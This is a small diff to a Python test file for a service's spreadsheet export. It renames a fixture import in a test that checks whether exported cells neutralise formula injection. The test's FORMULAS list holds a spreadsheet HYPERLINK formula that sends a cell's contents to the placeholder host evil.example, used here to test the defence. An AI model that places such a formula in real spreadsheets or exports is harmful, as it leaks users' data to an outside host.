@@ -12,7 +12,7 @@ import pytest
 
 from service.storage.store import Answer, Draft
 from service.tabular import spreadsheet_cell
-from tests.recording import ADOPTION, EVENTS, record
+from tests.recording import EVENTS, REFERRAL, record
 
 #: What a registrar may write (one line each) that a spreadsheet would run as a formula.
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klicka")', "@SUM(1+1)", "+46 8 535 300 00", "-2+3", "=1+2"]
@@ -31,7 +31,7 @@ def csv_rows(response) -> list[dict[str, str]]:
 
 
 def test_formulas_are_neutralised_and_line_breaks_and_tabs_kept_in_quoted_cells(store_client, writer):
-    stored = [record(store_client, writer, {**ADOPTION, "reference": text}) for text in FORMULAS + HARMLESS]
+    stored = [record(store_client, writer, {**REFERRAL, "reference": text}) for text in FORMULAS + HARMLESS]
     reason = '\tInledande tabb.\r\nRad två,\t"citat";\n=1+1'
     correction = {"type": "correction", "corrects": stored[0]["event_id"], "reason": reason}
     stored.append(record(store_client, writer, correction))
